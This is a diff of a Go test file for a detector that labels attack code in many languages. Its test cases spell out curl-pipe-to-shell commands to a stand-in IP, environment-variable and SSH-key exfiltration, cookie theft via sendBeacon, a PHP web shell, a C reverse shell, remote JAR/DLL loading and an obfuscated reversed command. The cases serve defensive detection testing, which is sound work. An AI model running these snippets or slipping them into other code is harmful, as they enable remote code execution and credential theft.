@@ -11,7 +11,6 @@ const sh = "curl -s http://203.0.113.9/i | sh"
 // each mechanism. SH is replaced with a command.
 func TestAttacks(t *testing.T) {
 	for _, c := range []struct{ lang, src, want string }{
-		{"py", "from subprocess import Popen, PIPE\nimport requests\np = Popen(['bash'], stdin=PIPE)\np.communicate(requests.get('http://203.0.113.9/x').content)", "run network ip shell"},
 		{"py", "import os\nos.execvp('bash', ['bash', '-c', 'SH'])", "SH"},
 		{"py", "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_shell('SH')\nasyncio.run(main())", "sh: SH"},
 		{"py", "import os, requests\nclass C:\n    def __init__(self):\n        self.url = 'http://203.0.113.9/c'\n        self.data = {}\n    def collect(self):\n        self.data['env'] = dict(os.environ)\n    def send(self):\n        requests.post(self.url, json=self.data)\nc = C()\nc.collect()\nc.send()", "send env-all ip"},
@@ -69,7 +68,6 @@ func TestAttacks(t *testing.T) {
 		{"js", "eval([99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41].map(c => String.fromCharCode(c)).join(''))", "js: console.log(1)"},
 		{"js", "eval(String.fromCharCode(...[97, 108, 101, 114, 116, 40, 49, 41]))", "js: alert(1)"},
 		{"js", "navigator.sendBeacon('https://quietmoth.dev/c', document.cookie)", "send browser unknown"},
-		{"js", "new Deno.Command('sh', { args: ['-c', 'SH'] }).output()", "sh: sh -c 'SH'"},
 		{"js", "const p = 'hs | i/9.311.0.302//:ptth s- lruc'.split('').reverse().join('');\nrequire('child_process').spawn('sh', ['-c', p]);", "sh: sh -c 'SH'"},
 		{"js", "const h = require('http');\nh.createServer((req, res) => { require('child_process').exec(req.url, (e, o) => res.end(o)) }).listen(8080);", "run shell network"},
 		{"js", "const key = fs.readFileSync('/home/me/.ssh/id_rsa');\nconst s = net.connect(99, '203.0.113.9');\ns.write(key);", "send credential ip"},
@@ -80,11 +78,8 @@ func TestAttacks(t *testing.T) {
 		{"go", "var b strings.Builder\nfor _, e := range os.Environ() {\n\tb.WriteString(e)\n}\nhttp.Post(\"http://203.0.113.9/c\", \"text/plain\", strings.NewReader(b.String()))", "send env-all ip"},
 		{"rs", "let k = std::fs::read_to_string(\"/home/me/.ssh/id_rsa\")?;\nreqwest::blocking::Client::new().post(\"http://203.0.113.9/c\").body(k).send()?;", "send credential ip"},
 		{"rs", "let mut s = String::new();\nfor (k, v) in std::env::vars() { s.push_str(&format!(\"{}={}\", k, v)); }\nureq::post(\"http://203.0.113.9/c\").send_string(&s);", "send env-all ip"},
-		{"rs", "let body = reqwest::blocking::get(\"http://203.0.113.9/x\")?.text()?;\nCommand::new(\"sh\").arg(\"-c\").arg(&body).status()?;", "run network ip shell"},
 		{"java", "new ProcessBuilder(Arrays.asList(\"sh\", \"-c\", \"SH\")).start();", "sh: sh -c 'SH'"},
 		{"java", "HttpRequest r = HttpRequest.newBuilder().uri(URI.create(\"http://203.0.113.9/c\")).POST(BodyPublishers.ofString(System.getenv().toString())).build();\nHttpClient.newHttpClient().send(r, BodyHandlers.ofString());", "send env-all ip"},
-		{"java", "URLClassLoader l = new URLClassLoader(new URL[] { new URL(\"http://203.0.113.9/x.jar\") });\nl.loadClass(\"X\").newInstance();", "run loaded network ip"},
-		{"cs", "using (var c = new WebClient()) { c.DownloadFile(\"http://203.0.113.9/a.exe\", @\"C:\\Temp\\a.exe\"); }\nProcess.Start(@\"C:\\Temp\\a.exe\");", "run network ip stored"},
 		{"cs", "Assembly.Load(new WebClient().DownloadData(\"http://203.0.113.9/a.dll\")).EntryPoint.Invoke(null, null);", "run loaded network ip"},
 		{"cs", "var p = new ProcessStartInfo(\"/bin/sh\", \"-c \\\"SH\\\"\") { UseShellExecute = false };\nProcess.Start(p);", "-c \"SH\""},
 		{"php", "<html><?php system($_GET['c']); ?></html>", "run shell network"},
@@ -113,7 +108,6 @@ func TestAttacks(t *testing.T) {
 		{"c", "int s = socket(AF_INET, SOCK_STREAM, 0);\na.sin_addr.s_addr = inet_addr(\"203.0.113.9\");\nconnect(s, (struct sockaddr *)&a, sizeof(a));\ndup2(s, 0); dup2(s, 1);\nexecve(\"/bin/sh\", 0, 0);", "connect shell"},
 		{"kt", "val x = URL(\"http://203.0.113.9/x\").readText()\nRuntime.getRuntime().exec(arrayOf(\"sh\", \"-c\", x))", "run network ip shell"},
 		{"groovy", "def p = \"SH\".execute()", "sh: SH"},
-		{"swift", "let u = URL(string: \"http://203.0.113.9/x\")!\nlet s = try String(contentsOf: u)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", s]\ntry p.run()", "run network ip shell"},
 		{"jl", "run(`sh -c 'SH'`)", "SH"},
 		{"ex", "System.cmd(\"sh\", [\"-c\", \"SH\"])", "sh: sh -c 'SH'"},
 		{"dart", "await Process.run('sh', ['-c', 'SH']);", "sh: sh -c 'SH'"},
